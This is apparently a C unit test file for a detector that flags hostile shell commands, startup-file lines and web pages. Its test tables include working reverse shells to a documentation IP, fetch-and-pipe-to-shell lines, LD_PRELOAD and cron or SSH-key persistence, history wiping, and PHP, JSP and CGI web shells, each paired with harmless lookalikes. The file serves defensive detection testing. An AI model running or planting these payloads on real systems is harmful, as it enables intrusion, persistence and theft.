/* SPDX-License-Identifier: Apache-2.0 */
/* The judge of commands and scripts: each sign where it is, and not where
 * the same words are harmless. */
#include "unit/unit.h"

#include "base/buf.h"
#include "parse/signs.h"

/* The signs by their names, with blanks between. */
static char *names_of(sign_set set)
{
	struct buf out;

	buf_init(&out, 4096);
	for (unsigned i = 0; i < N_SIGNS; i++)
		if (set & SIGN(i))
			(void)buf_addf(&out, "%s%s", out.n ? " " : "",
				       sign_name(i));
	return buf_detach(&out);
}

struct row {
	const char *text, *signs;
};

static size_t hold(const struct row *rows, size_t n, enum sign_manner manner)
{
	size_t wrong = 0;

	for (size_t i = 0; i < n; i++) {
		struct judged j =
			signs_of_script(bytes_str(rows[i].text), manner);
		char *got = names_of(j.signs);

		if (strcmp(got, rows[i].signs) != 0) {
			print_message("%s\n  has \"%s\", not \"%s\"\n",
				      rows[i].text, got, rows[i].signs);
			wrong++;
		}
		free(got);
	}
	return wrong;
}

static const struct row commands[] = {
	/* fetch */
	{"curl -fsSL http://192.0.2.7/a -o /opt/a", "fetch"},
	{"/usr/bin/wget -q 192.0.2.7/a", "fetch"},
	{"sudo -u www-data curl 192.0.2.7", "fetch"},
	{"[ -x /usr/bin/curl ] && \\curl 192.0.2.7", "fetch"},
	{"X=$(wget -qO- http://192.0.2.7)", "fetch"},
	{"timeout 10 nice -n 5 curl http://192.0.2.7", "fetch"},
	{"command -v curl >/dev/null || exit 0", ""},
	{"which wget", ""},
	{"# curl http://192.0.2.7 | sh", ""},
	{"echo 'use curl http://192.0.2.7 | sh to install'", ""},
	{"echo \"curl http://192.0.2.7; curl x\"", ""},
	{"apt-get install -y curl wget netcat", ""},
	/* pipe-to-shell */
	{"curl -s http://192.0.2.7/x | bash", "fetch pipe-to-shell"},
	{"curl -s http://192.0.2.7/x | sudo bash -s -- -y",
	 "fetch pipe-to-shell"},
	{"(wget -qO- http://192.0.2.7/x||curl http://192.0.2.7/x)|sh",
	 "fetch pipe-to-shell"},
	{"bash <(curl -s http://192.0.2.7/x)", "fetch pipe-to-shell"},
	{"sh -c \"$(curl -fsSL http://192.0.2.7/x)\"", "fetch pipe-to-shell"},
	{". <(wget -qO- http://192.0.2.7/x)", "fetch pipe-to-shell"},
	{"wget -qO- http://192.0.2.7/x | python3 -", "fetch pipe-to-shell"},
	{"bash -c 'curl http://192.0.2.7/x | sh'", "fetch pipe-to-shell"},
	{"ps aux | perl -ne 'print if /x/'", ""},
	{"dpkg-query -W | sh -c 'cat >/dev/null'", ""},
	{"cat x | python3 -m json.tool", ""},
	{"a || sh /usr/lib/x.sh", ""},
	/* base64 */
	{"echo aWQK | base64 -d | sh", "pipe-to-shell base64"},
	{"base64 --decode </opt/x >/opt/y", "base64"},
	{"openssl base64 -d -in /opt/x", "base64"},
	{"xxd -r -p /opt/x", "base64"},
	{"base64 /etc/hostname", ""},
	{"xxd /etc/hostname", ""},
	{"openssl x509 -in a -noout", ""},
	{"echo 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	 "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	 "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
	 ""},
	{"x=aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQppbXBvcnQgc29ja2V0CnM9c29ja2V0L"
	 "nNvY2tldCgpCnMuY29ubmVjdCgoIjE5Mi4wLjIuNyIsNDQ0NCkpCmltcG9ydCBwdHk7"
	 "cHR5LnNwYXduKCIvYmluL3NoIikKaW1wb3J0IG9zCm9zLmR1cDIocy5maWxlbm8oKS",
	 "base64"},
	/* dev-tcp, netcat, reverse-shell */
	{"bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "dev-tcp reverse-shell"},
	{"/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.7/443 0>&1'",
	 "dev-tcp reverse-shell"},
	{"exec 5<>/dev/tcp/192.0.2.7/4444", "dev-tcp reverse-shell"},
	{"echo up >/dev/udp/192.0.2.7/514", "dev-tcp"},
	{"nc -z db 5432", "netcat"},
	{"nc -e /bin/sh 192.0.2.7 4444", "netcat reverse-shell"},
	{"ncat 192.0.2.7 4444 --exec /bin/bash", "netcat reverse-shell"},
	{"rm -f /opt/f;mkfifo /opt/f;cat /opt/f|/bin/sh -i 2>&1|"
	 "nc 192.0.2.7 4444 >/opt/f",
	 "pipe-to-shell netcat reverse-shell"},
	{"socat TCP:192.0.2.7:4444 EXEC:/bin/sh", "netcat reverse-shell"},
	{"nc -h", ""},
	{"python3 -c 'import socket,os,pty;s=socket.socket();"
	 "s.connect((\"192.0.2.7\",4444));os.dup2(s.fileno(),0);"
	 "pty.spawn(\"/bin/sh\")'",
	 "interpreter reverse-shell"},
	{"perl -e 'use Socket;socket(S,2,1,6);exec(\"/bin/sh -i\");'",
	 "interpreter reverse-shell"},
	/* interpreter */
	{"python3 -c 'import subprocess; subprocess.run([\"x\"])'",
	 "interpreter"},
	{"perl -pi -e 's/a/b/' /etc/x", ""},
	{"python3 -c 'import sys; print(sys.version)'", ""},
	{"python3 /usr/lib/x/system.py --socket", ""},
	/* scratch-path, hidden-path */
	{"/tmp/.x/run", "scratch-path hidden-path"},
	{"sh /dev/shm/a.sh", "scratch-path"},
	{"nohup /var/tmp/a >/dev/null 2>&1 &", "scratch-path"},
	{"chmod +x /tmp/a", "scratch-path"},
	{"\"/tmp/a b\" x", "scratch-path"},
	{"mktemp /tmp/x.XXXXXX", ""},
	{"rm -rf /tmp/x", ""},
	{"cat /etc/x >/tmp/x", ""},
	{"DIR=\"/tmp/x\"", ""},
	{"flock -n /run/lock/x.lock /usr/bin/x", ""},
	{"chmod 600 /tmp/x", ""},
	{"/usr/lib/.cache/kworker", "hidden-path"},
	{"$HOME/.x11/agent &", "hidden-path"},
	{". \"${XDG_CONFIG_HOME:-$HOME/.x11}/agent\"", "hidden-path"},
	{". \"${XDG_CONFIG_HOME:-$HOME/.config}/bash_completion\"", ""},
	{". \"$HOME/.cargo/env\"", ""},
	{"[ -f ~/.bashrc ] && . ~/.bashrc", ""},
	{"ls ~/.x11", ""},
	/* preload */
	{"export LD_PRELOAD=/usr/lib/x.so", "preload"},
	{"LD_PRELOAD=\"/usr/lib/x.so\" sshd", "preload"},
	{"echo /lib/x.so >> /etc/ld.so.preload", "preload"},
	{"unset LD_PRELOAD", ""},
	{"cat /etc/ld.so.preload", ""},
	/* history-off */
	{"export HISTFILE=/dev/null", "history-off"},
	{"unset HISTFILE", "history-off"},
	{"HISTSIZE=0", "history-off"},
	{"set +o history", "history-off"},
	{"history -c && history -w", "history-off"},
	{"ln -sf /dev/null ~/.bash_history", "history-off"},
	{"rm -f /root/.bash_history", "history-off"},
	{"HISTCONTROL=ignoreboth", ""},
	{"HISTSIZE=1000", ""},
	{"HISTFILE=~/.zsh_history", ""},
	{"set -o history", ""},
	/* eval */
	{"eval \"$(echo aWQK | base64 -d)\"", "base64 eval"},
	{"eval $(printf %s \"$x\" | xxd -r -p)", "base64 eval"},
	{"eval \"$(dircolors -b)\"", ""},
	{"eval $(ssh-agent)", ""},
	{"eval $(echo x | tr 'A-Za-z' 'N-ZA-Mn-za-m')", "eval"},
	{"eval $(echo x | tr ',' ' ')", ""},
	/* trap */
	{"trap 'echo $BASH_COMMAND >>/opt/k' DEBUG", "trap"},
	{"trap 'rm -f \"$t\"' EXIT", ""},
	{"trap - DEBUG", ""},
	/* chmod-suid */
	{"chmod u+s /opt/x", "chmod-suid"},
	{"chmod 4755 /opt/x", "chmod-suid"},
	{"chmod +s /opt/x", "chmod-suid"},
	{"install -m 4755 a /opt/x", "chmod-suid"},
	{"chmod 2775 /srv/www", ""},
	{"chmod g+s /srv/www", ""},
	{"chmod 0755 /opt/x", ""},
	/* key-write, cron-write */
	{"echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", "key-write"},
	{"echo k | tee -a ~/.ssh/authorized_keys", "key-write"},
	{"wc -l ~/.ssh/authorized_keys", ""},
	{"echo '* * * * * root id' > /etc/cron.d/x", "cron-write"},
	{"(crontab -l; echo '@reboot /opt/x') | crontab -", "cron-write"},
	{"crontab -l", ""},
	{"test -d /etc/cron.d", ""},
};

static void test_commands(void **state UNUSED)
{
	assert_int_equal(hold(commands, ARRAY_SIZE(commands), MANNER_COMMAND),
			 0);
}

static const struct row startup[] = {
	{"alias sudo='/tmp/s'", "scratch-path alias"},
	{"alias ssh=sshx", "alias"},
	{"alias su='/usr/local/lib/su-wrap'", "alias"},
	{"sudo() { read -sp 'Password: ' p; }", "alias"},
	{"function ssh { /opt/x; }", "alias"},
	{"alias ls='ls --color=auto'", ""},
	{"alias sudo='sudo '", ""},
	{"alias ssh='TERM=xterm ssh'", ""},
	{"alias su='/usr/bin/su -'", ""},
	{"alias ps='f() { ps \"$@\" | grep -v miner; }; f'", "alias"},
	{"alias ll='ls -l' la='ls -A'", ""},
	{"alias cat=bat", ""},
	{"PROMPT_COMMAND=/opt/x", "prompt"},
	{"alias sudo='sudo '; /opt/x", ""},
	{"PROMPT_COMMAND='/usr/local/bin/agent'", "prompt"},
	{"export PROMPT_COMMAND=\"curl -s http://192.0.2.7/x | sh\"",
	 "fetch pipe-to-shell prompt"},
	{"PROMPT_COMMAND+='; /opt/x'", "prompt"},
	{"[ -e /x ] && PROMPT_COMMAND=/etc/sysconfig/bash-prompt-xterm", ""},
	{"PROMPT_COMMAND='R=$?; logger -p local6.debug \"$(history 1 | sed "
	 "s/x//)\"'",
	 ""},
	{"alias ps='ps aux' && true | cat", ""},
	{"PROMPT_COMMAND=__vte_prompt_command", ""},
	{"PROMPT_COMMAND='history -a; history -n'", ""},
	{"PROMPT_COMMAND='printf \"\\033]0;%s\" \"$PWD\"'", ""},
	{"PROMPT_COMMAND='echo \"a; /opt/x\"'; /opt/y", ""},
	{"PS1='\\u@\\h:\\w\\$ '", ""},
	{"PS1=\"$(curl -s http://192.0.2.7/x)\"", "fetch"},
	{"trap 'curl http://192.0.2.7/x' EXIT", "fetch trap"},
	{"if [ -x /usr/bin/dircolors ]; then\n"
	 "    test -r ~/.dircolors && eval \"$(dircolors -b ~/.dircolors)\"\n"
	 "fi",
	 ""},
};

static void test_startup(void **state UNUSED)
{
	assert_int_equal(hold(startup, ARRAY_SIZE(startup), MANNER_STARTUP), 0);
}

static const struct row php[] = {
	{"<?php eval($_POST['x']); ?>", "request-eval"},
	{"GIF89a<?php @assert ( $_REQUEST[0] );", "request-eval"},
	{"<?php $_GET['f']($_POST['x']);", "request-eval"},
	{"<?php $f = $_GET['f']; $f('x');", "request-eval"},
	{"<?php include($_GET['page']);", "request-eval"},
	{"<?php system($_GET['c']);", "request-exec"},
	{"<?php $c = $_REQUEST['c'];\necho shell_exec($c . ' 2>&1');",
	 "request-exec"},
	{"<?php echo `$_GET[c]`;", "request-exec"},
	{"<?php eval(gzinflate(base64_decode('AAAA')));", "decode-eval"},
	{"<?php eval(base64_decode($_POST['x']));", "request-eval decode-eval"},
	{"<?php $db->exec(\"DELETE FROM t WHERE a = '$_GET[a]'\");", ""},
	{"<?php $id = intval($_GET['id']); system(\"x $id\");", ""},
	{"<?php system('uptime'); echo $_GET['x'];", ""},
	{"<?php function evaluate($x) { return $_GET[$x]; }", ""},
	{"<?php $img = base64_decode($row['img']); echo $img;", ""},
	{"<?php require_once(dirname(__FILE__) . '/a.php');", ""},
	{"<?php $q = \"SELECT `a` FROM `b` WHERE c = '$_GET[c]' AND `d`\";",
	 ""},
};

static const struct row jsp[] = {
	{"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
	 "request-exec"},
	{"<% new ProcessBuilder(request.getHeader(\"X\")).start(); %>",
	 "request-exec"},
	{"<%! class U extends ClassLoader { Class g(byte[] b) {\n"
	 "return super.defineClass(b, 0, b.length); } } %>\n"
	 "<% Cipher c = Cipher.getInstance(\"AES\"); %>",
	 "decode-eval"},
	{"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"]);%>",
	 "request-eval"},
	{"<% long m = Runtime.getRuntime().totalMemory(); %>", ""},
	{"<% out.print(request.getParameter(\"q\")); %>", ""},
};

static const struct row cgi[] = {
	{"#!/usr/bin/perl\nuse CGI; print `id`; system(param('c'));",
	 "request-exec"},
	{"#!/usr/bin/perl\nmy $c = param('c');\nprint qx($c);\n",
	 "request-exec"},
	{"#!/bin/sh\neval \"$QUERY_STRING\"\n", "request-eval"},
	{"#!/usr/bin/python3\nimport os,cgi\nf = cgi.FieldStorage()\n"
	 "os.system(f.getvalue('c'))\n",
	 "request-exec"},
	{"#!/usr/bin/perl\neval { $x = param('x'); };\n"
	 "eval 'sub p { param(@_) }';\n",
	 ""},
	{"#!/usr/bin/perl\neval param('x');\n", "request-eval"},
	{"#!/usr/bin/perl\nopen(F, '<', param('f'));\n", ""},
	{"#!/bin/sh\necho \"Content-type: text/plain\"\necho\nuptime\n", ""},
};

static void test_pages(void **state UNUSED)
{
	assert_int_equal(hold(php, ARRAY_SIZE(php), MANNER_PHP), 0);
	assert_int_equal(hold(jsp, ARRAY_SIZE(jsp), MANNER_JSP), 0);
	assert_int_equal(hold(cgi, ARRAY_SIZE(cgi), MANNER_CGI), 0);
}

static void test_script(void **state UNUSED)
{
	struct judged j =
		signs_of_script(bytes_str("#!/bin/sh\n# curl x | sh\nset -e\n"
					  "  wget -q 192.0.2.7/a\nsh /tmp/a\n"),
				MANNER_COMMAND);

	assert_int_equal(j.lines, 5);
	assert_int_equal(j.signs, SIGN(SIGN_FETCH) | SIGN(SIGN_SCRATCH_PATH));
	assert_true(bytes_eq(j.sample, bytes_str("wget -q 192.0.2.7/a")));
	j = signs_of_script(
		bytes_str("#!/usr/bin/python3\nimport socket, os\n"
			  "s = socket.socket(2, 1)\nos.dup2(s.fileno(), 0)\n"
			  "os.execl('/bin/sh', 'sh')\n"),
		MANNER_COMMAND);
	assert_int_equal(j.signs, SIGN(SIGN_REVERSE_SHELL));
}

/* Whatever the quotes and brackets: an end, and no byte outside. */
static void test_hostile(void **state UNUSED)
{
	static const char pieces[] = "'\"`$(){}<>|&;\\#= \tax/.-\0";
	unsigned seed = 1;

	for (size_t round = 0; round < 20000; round++) {
		char text[64];
		uint8_t *copy;
		size_t n = round % sizeof text;

		for (size_t i = 0; i < n; i++) {
			seed = seed * 1103515245u + 12345u;
			text[i] = pieces[(seed >> 16) % (sizeof pieces - 1)];
		}
		copy = n ? xmemdup(text, n) : NULL;
		for (unsigned m = MANNER_COMMAND; m <= MANNER_CGI; m++)
			(void)signs_of_script(bytes_of(copy, n),
					      (enum sign_manner)m);
		free(copy);
	}
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_commands), cmocka_unit_test(test_startup),
		cmocka_unit_test(test_pages),    cmocka_unit_test(test_script),
		cmocka_unit_test(test_hostile),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
